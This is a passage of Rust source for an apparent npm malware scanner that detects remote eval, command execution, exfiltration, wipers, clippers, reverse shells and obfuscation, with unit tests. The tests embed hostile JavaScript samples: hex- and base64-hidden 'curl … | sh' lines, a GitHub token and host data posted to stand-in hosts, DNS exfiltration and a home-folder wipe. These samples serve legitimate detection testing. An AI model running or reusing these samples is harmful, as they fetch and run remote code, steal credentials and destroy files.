                && f.kind() == "identifier"
            {
                top_called.insert(text(f, src));
            }
            if is_function(n)
                && let Some(f) = Named::of(n, src)
            {
                self.funcs.insert(n.id(), f);
            }
            let mut c = n.walk();
            for ch in n.named_children(&mut c) {
                stack.push((ch, inside || is_function(ch)));
            }
        }
        self.quiet = top_consts
            .into_iter()
            .filter(|(k, _)| top_refs.get(k).copied().unwrap_or(0) < 2)
            .map(|(_, v)| v.byte_range())
            .collect();
        self.quiet.sort_by_key(|r| r.start);

        let mut stack: Vec<(Node<'t>, usize, Scope, bool)> = vec![(root, 0, self.ctx.top, false)];
        while let Some((n, fid, scope, in_net)) = stack.pop() {
            let mut child_net = in_net;
            match n.kind() {
                "call_expression" | "new_expression" if self.call(n, fid, scope, in_net) => {
                    child_net = true;
                }
                "string" | "template_string" => self.string(n, fid, scope),
                "array" if !self.encoded_table => self.encoded_table = is_encoded_table(self.js, n),
                "identifier" => {
                    let t = text(n, src);
                    if t.len() >= 5
                        && t.starts_with("_0x")
                        && t[3..].bytes().all(|b| b.is_ascii_hexdigit())
                    {
                        self.obf_idents.insert(t);
                    }
                }
                _ => {}
            }
            let mut c = n.walk();
            let start = stack.len();
            for ch in n.named_children(&mut c) {
                if is_function(ch) && !self.inherits(ch, &top_called) {
                    stack.push((ch, ch.id(), self.ctx.func, false));
                } else {
                    stack.push((ch, fid, scope, child_net));
                }
            }
            stack[start..].reverse();
        }
        self.finish(root);
    }

    /// One call or `new`; returns whether it is a network call (its callbacks get the
    /// response).
    fn call(&mut self, n: Node<'t>, fid: usize, scope: Scope, in_net: bool) -> bool {
        let js = self.js;
        let Some(f) = n
            .child_by_field_name("function")
            .or_else(|| n.child_by_field_name("constructor"))
        else {
            return false;
        };
        let name = js.canon(f);
        let last = name.rsplit('.').next().unwrap_or(&name).to_string();
        let args = n.child_by_field_name("arguments");
        let first = args.and_then(|a| a.named_child(0));
        let line = n.start_position().row as u32 + 1;
        let snip = snippet(text(n, js.src));
        if matches!(
            name.as_str(),
            "fs.rmSync" | "fs.rm" | "fs.rmdirSync" | "fs.rmdir" | "fs.promises.rm" | "rimraf"
        ) && let Some(a) = first
            && patterns::is_wipe_target(&js.loose_str(a), text(a, js.src))
        {
            self.push(
                "FILE-WIPE",
                n,
                scope,
                format!(
                    "deletes a whole home folder or drive: {}",
                    snippet(text(a, js.src))
                ),
            );
        }
        if name.starts_with("child_process.") && CHILD_PROCESS.contains(&last.as_str()) {
            self.push(
                "JS-CHILD-PROCESS",
                n,
                scope,
                format!("runs a command with `{name}`"),
            );
            if js.split_name(f) {
                self.push(
                    "JS-OBF-SPLIT-NAME",
                    n,
                    scope,
                    format!("names `{name}` in pieces glued together"),
                );
            }
            let mut cmd = first.map(|a| js.loose_str(a)).unwrap_or_default();
            if matches!(
                last.as_str(),
                "spawn" | "spawnSync" | "execFile" | "execFileSync"
            ) && let Some(rest) = args.and_then(|a| a.named_child(1))
                && rest.kind() == "array"
            {
                cmd.push(' ');
                cmd.push_str(&js.loose_str(rest));
            }
            for p in patterns::command_rules(&cmd) {
                self.push(p.rule, n, scope, format!("command {}", p.what));
            }
            // Collected data handed to a command that talks to the network (`curl -d`,
            // `gh api ... -f content=...`).
            if patterns::is_network_command(&cmd)
                && args.is_some_and(|a| js.sends_collected(a, scope))
            {
                self.push(
                    "EXFIL-SEND-COLLECTED",
                    n,
                    scope,
                    "sends host or environment data with a network command".into(),
                );
            }
            let prog = cmd.split_whitespace().next().unwrap_or("");
            let prog = patterns::file_name(prog).to_ascii_lowercase();
            if matches!(
                prog.trim_end_matches(".exe"),
                "sh" | "bash" | "zsh" | "dash" | "cmd" | "powershell" | "pwsh"
            ) {
                self.facts.shell_ref = true;
            }
            for script in patterns::script_names(&cmd) {
                self.facts
                    .run_files
                    .push((script, line, scope, snip.clone()));
            }
            self.facts.run_program.push((fid, line, scope, snip));
            return false;
        }
        if matches!(
            name.as_str(),
            "eval"
                | "Function"
                | "vm.runInThisContext"
                | "vm.runInNewContext"
                | "vm.runInContext"
                | "vm.compileFunction"
        ) || name.ends_with("vm.Script")
        {
            let Some(a) = args else { return false };
            let mut decoded_text = text(a, js.src).to_string();
            // The initialisers of the names passed, one step back.
            let mut c = a.walk();
            for x in a
                .named_children(&mut c)
                .filter(|x| x.kind() == "identifier")
            {
                for (nm, init) in &js.inits {
                    if nm == text(x, js.src) {
                        decoded_text.push_str(text(*init, js.src));
                    }
                }
            }
            if decoded_text.contains("base64")
                || decoded_text.contains("atob(")
                || decoded_text.contains("fromCharCode")
                || decoded_text.contains("'hex'")
                || decoded_text.contains("\"hex\"")
            {
                // Decoding code to run it has no benign reading in a function either.
                self.push(
                    "JS-EVAL-DECODED",
                    n,
                    scope.undiscounted(self.ctx.top),
                    format!("`{name}` runs decoded code"),
                );
            } else if code_arg(&name, a)
                .is_some_and(|x| !matches!(x.kind(), "string" | "template_string"))
            {
                self.evals.push((n, fid, scope, in_net));
            }
            return false;
        }
        if is_network(&name) {
            self.push(
                "JS-NETWORK",
                n,
                scope,
                format!("network access with `{name}`"),
            );
            let fact = (fid, line, scope, snip.clone());
            let target = first.map(|a| js.target_text(a)).unwrap_or_default();
            let wrapper = self.funcs.get(&fid);
            let param = wrapper.and_then(|w| {
                let a = first.filter(|a| a.kind() == "identifier")?;
                w.params.iter().position(|p| *p == Some(text(a, js.src)))
            });
            let recursion =
                wrapper.is_some_and(|w| f.kind() == "identifier" && text(f, js.src) == w.name);
            if malgraph_ioc::is_package_registry_url(&target) {
                // A package fetched from its registry, as npm itself would.
            } else if param.is_some() || recursion {
                self.forwarded.push((fid, param, fact));
            } else {
                self.facts.network.push(fact);
            }
            if args.is_some_and(|a| js.sends_collected(a, scope)) {
                self.push(
                    "EXFIL-SEND-COLLECTED",
                    n,
                    scope,
                    "sends host or environment data over the network".into(),
                );
            }
            if name.starts_with("dns.")
                && let Some(h) = first
                && !matches!(h.kind(), "string")
                && js.static_str(h).is_none()
                && js.taint_of(h) != 0
            {
                self.push(
                    "EXFIL-DNS",
                    n,
                    scope,
                    "resolves a host name built from collected data".into(),
                );
            }
            if name.starts_with("net.") || name.starts_with("tls.") {
                self.socket_line = Some((line, scope, snip));
            }
            return true;
        }
        // Methods of a request or socket held in a variable: req.write(data), sock.connect().
        if let Some(obj) = f.child_by_field_name("object")
            && obj.kind() == "identifier"
            && js.is_net_var(text(obj, js.src))
        {
            if matches!(last.as_str(), "write" | "end" | "send")
                && args.is_some_and(|a| js.sends_collected(a, scope))
            {
                self.push(
                    "EXFIL-SEND-COLLECTED",
                    n,
                    scope,
                    "sends host or environment data over the network".into(),
                );
            }
            if last == "connect" {
                self.socket_line = Some((line, scope, snip));
            }
            return false;
        }
        match name.as_str() {
            "os.hostname" | "os.userInfo" | "os.networkInterfaces" | "dns.getServers" => {
                self.push(
                    "JS-HOSTINFO",
                    n,
                    scope,
                    format!("collects host identity with `{name}`"),
                );
                self.facts.host_collect.push((fid, line, scope, snip));
            }
            "JSON.stringify"
                if args.is_some_and(|a| {
                    text(a, js.src).trim_matches(['(', ')']).trim() == "process.env"
                }) =>
            {
                self.push(
                    "JS-ENV-BULK",
                    n,
                    scope,
                    "serialises the whole environment".into(),
                );
            }
            "fs.writeFileSync"
            | "fs.writeFile"
            | "fs.createWriteStream"
            | "fs.promises.writeFile"
            | "fs/promises.writeFile"
            | "fs.appendFileSync"
            | "fs.appendFile"
            | "fs.promises.appendFile" => {
                if first.is_some_and(|p| patterns::is_ssh_authorized_keys(&js.target_text(p))) {
                    self.push(
                        "PERSIST-SSH-KEY",
                        n,
                        scope,
                        "writes to an SSH authorized_keys file".into(),
                    );
                }
                // Code written to disk (a script to run later, a patched copy of another
                // application's module) is analysed as code running where the write is.
                if let Some(code) = args
                    .and_then(|a| a.named_child(1))
                    .and_then(|d| js.static_str(d))
                    .filter(|c| looks_like_js(c))
                {
                    self.written_code(&code, line, scope);
                }
                // Fixed content (not read from anywhere) written over a file.
                if !name.contains("append")
                    && !name.ends_with("createWriteStream")
                    && args
                        .and_then(|a| a.named_child(1))
                        .is_some_and(|d| js.static_str(d).is_some())
                {
                    self.fixed_writes.push((fid, n, scope));
                }
                self.writes.push((line, fid, scope, snip, in_net));
            }
            "fs.readdirSync" | "fs.readdir" | "fs.promises.readdir" | "fs/promises.readdir" => {
                self.dir_reads.insert(fid);
            }
            "String.fromCharCode"
                if args.is_some_and(|a| {
                    let mut c = a.walk();
                    a.named_children(&mut c).any(|x| {
                        x.kind() == "binary_expression"
                            && x.child_by_field_name("operator")
                                .is_some_and(|o| text(o, js.src) == "^")
                    })
                }) =>
            {
                self.xor_decoder.get_or_insert(line);
            }
            // (Any object's `unlink`: the `fs` module may be required by a decoded name.)
            _ if matches!(last.as_str(), "unlink" | "unlinkSync" | "rm" | "rmSync")
                && first.is_some_and(|a| js.is_own_file(a)) =>
            {
                self.push(
                    "JS-FILE-SELF-DELETE",
                    n,
                    scope,
                    "deletes its own file (`__filename`)".into(),
                );
            }
            // `text.replace(/0x[a-fA-F0-9]{40}/g, '0xAttacker...')`: every address in the data
            // swapped for a hard-coded one (wallet drainers hooking fetch or the provider).
            _ if matches!(last.as_str(), "replace" | "replaceAll")
                && first.is_some_and(|a| a.kind() == "regex")
                && args.and_then(|a| a.named_child(1)).is_some_and(|w| {
                    !malgraph_ioc::extract(&js.loose_str(w)).wallets.is_empty()
                }) =>
            {
                // No benign reading: from a hook (`window.fetch = async ...`) it weighs
                // like the file's top level, which installs the hook.
                self.push(
                    "STEAL-CLIPPER",
                    n,
                    scope.undiscounted(self.ctx.top),
                    "replaces what a pattern matches with a hard-coded cryptocurrency address"
                        .into(),
                );
            }
            _ if is_clipboard_write(&name) => {
                let wallet = first
                    .map(|a| js.loose_str(a))
                    .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty());
                if wallet {
                    self.push(
                        "STEAL-CLIPPER",
                        n,
                        scope,
                        format!("puts a cryptocurrency address on the clipboard (`{name}`)"),
                    );
                } else {
                    self.clip_writes.push((n, scope));
                }
            }
            _ if is_clipboard_read(&name) => self.clip_read = true,
            _ => {}
        }
        false
    }

    fn string(&mut self, n: Node<'t>, fid: usize, scope: Scope) {
        if self.strings >= 400 {
            return;
        }
        let js = self.js;
        // A template with substitutions: its literal parts.
        let s = js.literal(n).unwrap_or_else(|| js.loose_str(n));
        let mut c = n.walk();
        let hex_escapes = n
            .named_children(&mut c)
            .filter(|p| p.kind() == "escape_sequence" && text(*p, js.src).starts_with("\\x"))
            .count();
        if hex_escapes >= 3 && hex_escapes * 4 * 2 > n.byte_range().len() {
            self.escaped_strings += 1;
            if self.hidden.len() < 2000 {
                self.hidden
                    .push((n.start_position().row as u32 + 1, s.clone()));
            }
        }
        self.sink.strings.push_str(&s);
        self.sink.strings.push('\n');
        // A place named in a constant the top level never uses is used by functions.
        let at = n.start_byte();
        let i = self.quiet.partition_point(|r| r.start <= at);
        let named_at = if i > 0 && self.quiet[i - 1].contains(&at) && scope == self.ctx.top {
            self.ctx.func
        } else {
            scope
        };
        for (rule, pat) in patterns::string_rules(&s) {
            self.strings += 1;
            self.push(rule, n, named_at, format!("string names `{pat}`"));
        }
        if s.contains("http") || s.contains("discord") {
            for (rule, url, what) in ext::url_rules(&s) {
                self.strings += 1;
                if malgraph_ioc::is_staged_executable_url(&url) {
                    let line = n.start_position().row as u32 + 1;
                    self.facts
                        .staged_exe_url
                        .push((fid, line, scope, snippet(&url)));
                }
                self.push(rule, n, scope, what);
            }
        } else if bare_host(&s) {
            // A host name handed to http.request({hostname}) or dns.lookup.
            for (rule, _url, what) in ext::url_rules(&format!("https://{}/", s.trim())) {
                if rule != "NET-SUSPICIOUS-HOST"
                    || !s.bytes().all(|b| b.is_ascii_digit() || b == b'.')
                {
                    self.strings += 1;
                    self.push(rule, n, scope, what);
                }
            }
        }
    }

    /// Requests to a named function's parameter count as network use unless every call of
    /// the function from outside it names a package registry (an installer's
    /// `fetch(url)` helper called only with `https://registry.npmjs.org/...`). A function
    /// nobody here calls by name (exported, passed around) keeps its requests.
    fn resolve_forwarded(&mut self, root: Node<'t>) {
        if self.forwarded.is_empty() {
            return;
        }
        let src = self.js.src;
        // Calls by bare name, found in one pass.
        let mut calls: HashMap<&str, Vec<Node<'t>>> = HashMap::new();
        walk(root, |c| {
            if c.kind() == "call_expression"
                && let Some(f) = c.child_by_field_name("function")
                && f.kind() == "identifier"
            {
                calls.entry(text(f, src)).or_default().push(c);
            }
        });
        let mut decided: HashMap<usize, bool> = HashMap::new();
        for (fid, param, fact) in std::mem::take(&mut self.forwarded) {
            let keep = *decided.entry(fid).or_insert_with(|| {
                let (Some(w), Some(i)) = (self.funcs.get(&fid), param) else {
                    return true;
                };
                let inside = w.node.byte_range();
                let mut outside = calls
                    .get(w.name)
                    .into_iter()
                    .flatten()
                    .filter(|c| !inside.contains(&c.start_byte()))
                    .peekable();
                // Nobody here calls it by name, or some caller names another host.
                outside.peek().is_none()
                    || outside.any(|c| {
                        let arg = c
                            .child_by_field_name("arguments")
                            .and_then(|a| a.named_child(i as u32));
                        !arg.is_some_and(|a| {
                            malgraph_ioc::is_package_registry_url(&self.js.target_text(a))
                        })
                    })
            });
            if keep {
                self.facts.network.push(fact);
            }
        }
    }

    /// File-level conclusions: remote eval, downloads written to disk, reverse shells,
    /// obfuscator output and the commands it hides.
    fn finish(mut self, root: Node<'t>) {
        self.resolve_forwarded(root);
        // Fixed content written over each file a function finds as it walks directories
        // by calling itself: a wiper (node-ipc 10.1.1's heart over every file).
        let walker = |fid: &usize| {
            self.funcs.get(fid).is_some_and(|w| {
                let body = text(w.node, self.js.src);
                body.matches(&format!("{}(", w.name)).count() >= 2
            })
        };
        if let Some((_, n, scope)) = self
            .fixed_writes
            .iter()
            .find(|(fid, ..)| self.dir_reads.contains(fid) && walker(fid))
            .copied()
        {
            // Sabotage has no benign reading: weighs like the file's top level.
            let msg = "overwrites every file of a directory walk with fixed content".into();
            self.push("FILE-WIPE", n, scope.undiscounted(self.ctx.top), msg);
        }
        // The clipboard read, tested against a pattern for addresses, and written: a
        // clipper whose addresses are not in the file.
        if self.clip_read
            && let Some((n, scope)) = self.clip_writes.first().copied()
            && patterns::has_wallet_pattern(&String::from_utf8_lossy(self.js.src))
        {
            let msg = "reads the clipboard, tests it against a cryptocurrency address pattern and replaces it".into();
            self.push("STEAL-CLIPPER", n, scope, msg);
        }
        let net_fids: HashSet<usize> = self.facts.network.iter().map(|(g, ..)| *g).collect();
        for (n, fid, scope, in_net) in std::mem::take(&mut self.evals) {
            if in_net || net_fids.contains(&fid) {
                self.push(
                    "JS-EVAL-REMOTE",
                    n,
                    scope,
                    "runs code received from the network".into(),
                );
            } else {
                self.push(
                    "JS-EVAL-DYNAMIC",
                    n,
                    scope,
                    "runs dynamically built code".into(),
                );
            }
        }
        for (line, fid, scope, snip, in_net) in std::mem::take(&mut self.writes) {
            if in_net || net_fids.contains(&fid) {
                self.facts.download_to_file.push((fid, line, scope, snip));
            }
        }
        if self.facts.shell_ref
            && let Some((line, scope, snip)) = self.socket_line.clone()
            && memchr::memmem::find(self.js.src, b".pipe(").is_some()
        {
            self.sink.findings.push(Raw {
                rule: "JS-REVERSE-SHELL",
                file: self.ctx.path.to_string(),
                line,
                snippet: snip,
                layer: 0,
                message: "a socket is piped into a shell process".into(),
                stage: Some(scope.stage),
                factor: scope.factor,
            });
        }
        let xor_table = self.xor_decoder.is_some() && self.encoded_table;
        if self.obf_idents.len() >= 5 || self.escaped_strings >= 3 || xor_table {
            let scope = self.ctx.top;
            let line = self
                .hidden
                .first()
                .map(|h| h.0)
                .or(self.xor_decoder)
                .unwrap_or(1);
            let msg = format!(
                "obfuscator output ({} `_0x` names, {} hex-escaped strings{})",
                self.obf_idents.len(),
                self.escaped_strings,
                if xor_table {
                    ", an XOR string decoder over a table of encoded strings"
                } else {
                    ""
                }
            );
            let mut raws = vec![("JS-OBFUSCATED", line, msg)];
            if scope.stage == Stage::Install {
                // Nothing benign needs to hide what runs while a package installs.
                raws.push((
                    "JS-OBFUSCATED-INSTALL",
                    line,
                    "an install script is obfuscator output".into(),
                ));
            }
            // Strings hidden behind escapes are checked as the commands they may be.
            for (line, s) in &self.hidden {
                for p in patterns::command_rules(s) {
                    if !raws.iter().any(|r| r.0 == p.rule) {
                        raws.push((p.rule, *line, format!("hidden command string {}", p.what)));
                    }
                }
            }
            for (rule, line, message) in raws {
                self.sink.findings.push(Raw {
                    rule,
                    file: self.ctx.path.to_string(),
                    line,
                    snippet: String::new(),
                    layer: 0,
                    message,
                    stage: Some(scope.stage),
                    factor: scope.factor,
                });
            }
        }
    }
}

/// Whether a string written to a file reads as JavaScript worth analysing.
fn looks_like_js(s: &str) -> bool {
    s.len() >= 24
        && [
            "require(",
            "eval(",
            "child_process",
            "process.env",
            "Function(",
        ]
        .iter()
        .any(|k| s.contains(k))
}

/// The argument of an eval-like call that holds the code: the last one for
/// `Function(arg1, ..., body)`, the first otherwise.
fn code_arg<'t>(name: &str, args: Node<'t>) -> Option<Node<'t>> {
    if name == "Function" {
        args.named_child(args.named_child_count().saturating_sub(1) as u32)
    } else {
        args.named_child(0)
    }
}

fn is_clipboard_write(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let last = lower.rsplit('.').next().unwrap_or(&lower);
    (lower.contains("clipboard") && matches!(last, "write" | "writesync" | "writetext"))
        || matches!(
            lower.as_str(),
            "ncp.copy" | "copy-paste.copy" | "clipboard-copy"
        )
}

/// An array literal of ≥ 5 elements, at least two thirds of them strings of ≥ 12
/// characters in mixed case without spaces (encoded or encrypted text, not package
/// names, paths or hashes), and at least 5 such.
fn is_encoded_table(js: &Js<'_>, n: Node<'_>) -> bool {
    let mut c = n.walk();
    let (mut all, mut long) = (0usize, 0usize);
    for x in n.named_children(&mut c).take(10_000) {
        all += 1;
        if x.kind() == "string"
            && js.literal(x).is_some_and(|s| {
                s.len() >= 12
                    && !s.contains(char::is_whitespace)
                    && s.contains(|c: char| c.is_ascii_uppercase())
                    && s.contains(|c: char| c.is_ascii_lowercase())
            })
        {
            long += 1;
        }
    }
    long >= 5 && long * 3 >= all * 2
}

/// `clipboardy.readSync`, `navigator.clipboard.readText`, `ncp.paste`.
fn is_clipboard_read(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let last = lower.rsplit('.').next().unwrap_or(&lower);
    (lower.contains("clipboard") && matches!(last, "read" | "readsync" | "readtext"))
        || matches!(lower.as_str(), "ncp.paste" | "copy-paste.paste")
}

fn is_network(n: &str) -> bool {
    let last = n.rsplit('.').next().unwrap_or(n);
    match n.split('.').next().unwrap_or(n) {
        "http" | "https" | "http2" => matches!(last, "request" | "get" | "connect"),
        "fetch" | "node-fetch" | "cross-fetch" | "isomorphic-fetch" | "axios" | "got"
        | "request" | "needle" | "superagent" | "phin" | "bent" | "XMLHttpRequest"
        | "WebSocket" | "ws" => true,
        "undici" => matches!(last, "request" | "fetch" | "stream"),
        "net" | "tls" => matches!(last, "connect" | "createConnection" | "Socket"),
        "dns" => last.starts_with("lookup") || last.starts_with("resolve"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(src: &str, top: Scope) -> (Vec<&'static str>, Facts) {
        let (sink, facts) = run_sink(src, top);
        (sink.findings.iter().map(|r| r.rule).collect(), facts)
    }

    /// `src` analysed as a module whose top level runs at `top`.
    fn run_sink(src: &str, top: Scope) -> (Sink, Facts) {
        let mut sink = Sink::default();
        let ctx = JsCtx {
            path: "package/index.js",
            top,
            func: Scope {
                stage: Stage::Runtime,
                factor: 0.6,
            },
            max_parse: 1 << 20,
        };
        let facts = analyze(src.as_bytes(), &ctx, &mut sink);
        (sink, facts)
    }

    #[test]
    fn home_wipes_and_stored_tokens_sent() {
        let rules = |src: &str| run(src, Scope::INSTALL).0;
        let os = "const fs = require('fs'); const os = require('os');\n";
        assert!(
            rules(&format!(
                "{os}fs.rmSync(os.homedir(), {{ recursive: true, force: true }});"
            ))
            .contains(&"FILE-WIPE")
        );
        assert!(
            !rules(&format!(
                "{os}fs.rmSync(os.homedir() + '/.cache/x', {{ recursive: true }});"
            ))
            .contains(&"FILE-WIPE")
        );
        let cp = "const { execSync } = require('child_process'); const https = require('https');\n";
        let sent = format!(
            "{cp}const t = execSync('gh auth token').toString();\nconst r = https.request({{ hostname: 'x.test', method: 'POST' }});\nr.write(JSON.stringify({{ t }}));\n"
        );
        assert!(
            rules(&sent).contains(&"EXFIL-SEND-COLLECTED"),
            "{:?}",
            rules(&sent)
        );
        let other = sent.replace("gh auth token", "git rev-parse HEAD");
        assert!(!rules(&other).contains(&"EXFIL-SEND-COLLECTED"));
    }

    #[test]
    fn code_written_to_disk_is_analysed_where_it_is_written() {
        let top = Scope {
            stage: Stage::Import,
            factor: 1.0,
        };
        let injected = "const fs = require('fs');\nfs.writeFileSync(p, \"require('https').get('https://x.test/i.js', r => { let s=''; r.on('data', c => s += c); r.on('end', () => eval(s)); });\");\n";
        let (rules, _) = run(injected, top);
        assert!(rules.contains(&"JS-EVAL-REMOTE"), "{rules:?}");
        // Text and data written are not analysed as code.
        let (rules, _) = run(
            "const fs = require('fs');\nfs.writeFileSync('notes.txt', 'eval is described in chapter 2');\n",
            top,
        );
        assert!(!rules.contains(&"JS-EVAL-DYNAMIC"), "{rules:?}");
    }

    #[test]
    fn aliases_resolve_direct_require_destructuring_and_members() {
        for src in [
            "require('child_process').exec('id')",
            "const { exec } = require('node:child_process'); exec('id')",
            "const cp = require('child_process'); const run = cp.execSync; run('id')",
            "import('child_process').then(m => m.exec('id')); const c = await import('child_process'); c.exec('id')",
            "process.mainModule.require('child_process')['exec']('id')",
        ] {
            let (rules, facts) = run(src, Scope::IMPORT);
            assert!(rules.contains(&"JS-CHILD-PROCESS"), "{src}: {rules:?}");
            assert!(!facts.run_program.is_empty(), "{src}");
        }
    }

    #[test]
    fn collected_data_flowing_into_a_request_is_exfiltration() {
        let src = r#"
const os = require("os"), https = require("https");
const data = JSON.stringify({ hn: os.hostname(), un: os.userInfo().username });
const post = "msg=" + data;
const req = https.request({ hostname: "x.oast.fun", method: "POST" }, (res) => {});
req.write(post);
req.end();
"#;
        let (rules, facts) = run(src, Scope::INSTALL);
        assert!(rules.contains(&"EXFIL-SEND-COLLECTED"), "{rules:?}");
        assert!(
            rules.contains(&"EXFIL-PASTE"),
            "bare request-catcher host: {rules:?}"
        );
        assert!(!facts.host_collect.is_empty() && !facts.network.is_empty());
        // Host name sent by a function at run time (a monitoring SDK) is not enough.
        let sdk = "const os = require('os'); function send(e) { fetch(u, { body: JSON.stringify({ server: os.hostname(), e }) }); }";
        assert!(!run(sdk, Scope::IMPORT).0.contains(&"EXFIL-SEND-COLLECTED"));
        // A token as an API client's auth header at run time is not either; at install it is.
        let api = "function f() { return fetch('https://api.github.com/user', { headers: { authorization: process.env.GITHUB_TOKEN } }); }";
        assert!(!run(api, Scope::IMPORT).0.contains(&"EXFIL-SEND-COLLECTED"));
        // Names bound in several places (bundles) are not followed.
        let bundle = "function a() { const body = JSON.stringify(process.env); log(body); }\nfunction b(socket) { const body = read(); socket.write(body); }\nconst socket = require('net').connect(1, 'h');";
        assert!(
            !run(bundle, Scope::IMPORT)
                .0
                .contains(&"EXFIL-SEND-COLLECTED")
        );
        // Nor is a token in the headers of an install-time download (release downloaders
        // pass GITHUB_TOKEN against rate limits).
        let dl =
            "https.get(url, { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } })";
        assert!(!run(dl, Scope::INSTALL).0.contains(&"EXFIL-SEND-COLLECTED"));
        let install = "fetch('https://api.example/x', { body: process.env.NPM_TOKEN })";
        assert!(
            run(install, Scope::INSTALL)
                .0
                .contains(&"EXFIL-SEND-COLLECTED")
        );
    }

    #[test]
    fn dns_names_built_from_host_data_are_exfiltration() {
        let src = "const dns = require('dns'), os = require('os');\nconst d = Buffer.from(os.hostname()).toString('hex');\nd.match(/.{1,60}/g).forEach((c) => dns.lookup(`${c}.x.example`, () => {}));";
        assert!(run(src, Scope::INSTALL).0.contains(&"EXFIL-DNS"));
        let ok =
            "const dns = require('dns'); function check(h) { dns.lookup(`${h}.local`, () => {}); }";
        assert!(!run(ok, Scope::IMPORT).0.contains(&"EXFIL-DNS"));
    }

    #[test]
    fn eval_inside_a_response_callback_is_remote_code() {
        let src = "const https = require('https');\nhttps.get('https://x.example/p', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); });";
        assert!(run(src, Scope::INSTALL).0.contains(&"JS-EVAL-REMOTE"));
        let local = "function render(t) { return new Function('o', t); }";
        let rules = run(local, Scope::IMPORT).0;
        assert!(rules.contains(&"JS-EVAL-DYNAMIC") && !rules.contains(&"JS-EVAL-REMOTE"));
    }

    #[test]
    fn escapes_and_static_strings_are_decoded() {
        let src = r"const c = '\x63\x75\x72\x6c -s http://x.example/a | sh'; require('child_process').exec(c);";
        let rules = run(src, Scope::INSTALL).0;
        assert!(rules.contains(&"CMD-STAGED-EXEC"), "{rules:?}");
        let b64 = "const cp = require('child_process'); cp.exec(Buffer.from('Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA==', 'base64').toString());";
        assert!(run(b64, Scope::INSTALL).0.contains(&"CMD-STAGED-EXEC"));
    }

    #[test]
    fn callbacks_run_with_their_caller_handlers_do_not() {
        let src = "const cp = require('child_process');\nsetTimeout(() => cp.exec('id'), 10);\napp.get('/x', (req, res) => cp.exec('id'));\nfunction later() { cp.exec('id'); }\nfunction now() { cp.exec('id'); }\nnow();";
        let (_, facts) = run(src, Scope::IMPORT);
        let stages: Vec<Stage> = facts.run_program.iter().map(|r| r.2.stage).collect();
        assert_eq!(
            stages,
            vec![Stage::Import, Stage::Runtime, Stage::Runtime, Stage::Import]
        );
    }

    #[test]
    fn obfuscator_output_and_its_hidden_commands() {
        let src = r"var _0x1a2b=['\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x78\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x61\x7c\x73\x68','\x65\x78\x65\x63','\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73'];var _0x3c4d=function(_0x5e6f,_0x7a8b){return _0x1a2b[_0x5e6f];};var _0x9c0d=_0x3c4d;";
        let rules = run(src, Scope::INSTALL).0;
        assert!(rules.contains(&"JS-OBFUSCATED"), "{rules:?}");
        assert!(rules.contains(&"JS-OBFUSCATED-INSTALL"), "{rules:?}");
        assert!(rules.contains(&"CMD-STAGED-EXEC"), "{rules:?}");
        assert!(!run(src, Scope::IMPORT).0.contains(&"JS-OBFUSCATED-INSTALL"));
        // ANSI colour escapes and a few `_0x`-free minified names are not obfuscation.
        let ok =
            r"console.log('\x1b[31m' + a + '\x1b[0m'); var a=1,b=2,c=function(d,e){return d+e};";
        assert!(!run(ok, Scope::IMPORT).0.contains(&"JS-OBFUSCATED"));
    }

    #[test]
    fn minified_es_module_imports_are_aliases() {
        let src = "import o from\"https\";import*as c from\"child_process\";import{execSync as x}from\"child_process\";\no.get('https://x.test/');c.exec('id');x('id');";
        let (rules, _) = run(src, Scope::IMPORT);
        assert!(rules.contains(&"JS-NETWORK"), "{rules:?}");
        assert_eq!(
            rules.iter().filter(|r| **r == "JS-CHILD-PROCESS").count(),
            2,
            "{rules:?}"
        );
    }

    #[test]
    fn fixed_content_over_every_file_of_a_walk_is_a_wiper() {
        let walk = |write: &str| {
            format!(
                "const fs = require('fs'), path = require('path');\nfunction h(d) {{ for (const e of fs.readdirSync(d)) {{ const p = path.join(d, e); if (fs.lstatSync(p).isDirectory()) h(p); else {write}; }} }}\nmodule.exports = h;\n"
            )
        };
        let heart =
            walk("fs.writeFile(p, Buffer.from('4p2k77iP', 'base64').toString('utf8'), () => {})");
        let (sink, _) = run_sink(&heart, Scope::IMPORT);
        let wipe = sink.findings.iter().find(|f| f.rule == "FILE-WIPE");
        // Weighs like the top level although the walk is a function.
        assert_eq!(wipe.map(|f| f.factor), Some(1.0));
        // A formatter writes each file's own content back; a walk without recursion
        // writing one file is a generator.
        let format = walk("fs.writeFileSync(p, fmt(fs.readFileSync(p, 'utf8')))");
        assert!(!run(&format, Scope::IMPORT).0.contains(&"FILE-WIPE"));
        let once = "const fs = require('fs');\nfunction init(d) { if (fs.readdirSync(d).length === 0) fs.writeFileSync(d + '/.keep', ''); }\n";
        assert!(!run(once, Scope::IMPORT).0.contains(&"FILE-WIPE"));
    }

    #[test]
    fn an_xor_decoder_over_a_table_of_encoded_strings_is_obfuscation() {
        let table = "const t = ['kLx+SMqE7KxlS8vE3Lx', 'iWsuF3bx9WctFDbxgSs', 'jSMpErLx4SMrEnKx', 'sKxiWcrFjaxFScmEzI', 'wrFLIxZSMjE3JxSScg', '__gvELKx'];\n";
        let decoder = "const d = (x, k) => x.split('').map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ k ^ 333)).join('');\n";
        let obf = |src: &str| {
            run(src, Scope::INSTALL)
                .0
                .contains(&"JS-OBFUSCATED-INSTALL")
        };
        assert!(obf(&format!("{table}{decoder}require(d(t[0], 7));")));
        // The decoder alone (a cipher library), or a table of package names, is not.
        assert!(!obf(decoder));
        let names = "const deps = ['eslint-plugin-import', 'eslint-config-prettier', '@babel/preset-env', '@typescript-eslint/parser', 'prettier-plugin-svelte'];\n";
        assert!(!obf(&format!("{names}{decoder}")));
    }

    #[test]
    fn a_script_deleting_itself_is_reported() {
        let del = |src: &str| run(src, Scope::INSTALL).0.contains(&"JS-FILE-SELF-DELETE");
        assert!(del("require('fs').unlinkSync(__filename);"));
        assert!(del("const K = __filename; t.unlink(K, () => {});"));
        assert!(!del(
